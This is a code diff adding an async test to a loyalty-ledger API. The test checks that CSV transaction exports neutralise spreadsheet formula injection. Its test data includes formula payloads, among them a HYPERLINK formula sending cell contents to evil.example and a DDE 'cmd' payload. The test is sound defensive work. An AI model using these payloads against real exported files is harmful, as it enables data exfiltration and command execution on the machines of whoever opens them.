@@ -69,6 +69,27 @@ async def test_exports_stream_page_by_page(api: Any, make_merchant: Any, make_me
     assert len(rows(response.text)) == 4
 
 
+async def test_exported_text_is_never_a_spreadsheet_formula(api: Any, make_merchant: Any, make_member: Any,
+                                                          ledger: Any, admin_key: str) -> None:
+    # A rogue partner types formulas as references; the admin opens the network's export in a spreadsheet.
+    shop = await make_merchant("Rogue")
+    member = await make_member(shop.merchant.id)
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
+                "\t=1+1", "\r=1+1"]
+    for n, reference in enumerate(formulas):
+        await ledger.earn(merchant_id=shop.merchant.id, loyalty_id=member.member.loyalty_id,
+                          purchase_amount_minor=1000, reference=reference, idempotency_key=f"f{n}")
+    await ledger.redeem(merchant_id=shop.merchant.id, loyalty_id=member.member.loyalty_id, points=3,
+                        idempotency_key="r")
+    for key in (admin_key, shop.api_key):
+        exported = rows((await api.client.get("/export/transactions.csv", headers=bearer(key))).text)
+        references = [r["reference"] for r in exported if r["kind"] == "EARN"]
+        assert references == ["'" + f.strip() for f in formulas]  # shown as the text typed, never run
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in exported for k, cell in r.items()
+                   if k != "points")
+        assert [r["points"] for r in exported if r["kind"] == "REDEEM"] == ["-3"]  # numbers stay numbers
+
+
 async def test_import_over_http_validates_loads_once_and_refuses_others(
         api: Any, db: Any, make_merchant: Any, admin_key: str, app: Any) -> None:
     shop = await make_merchant("Importer")
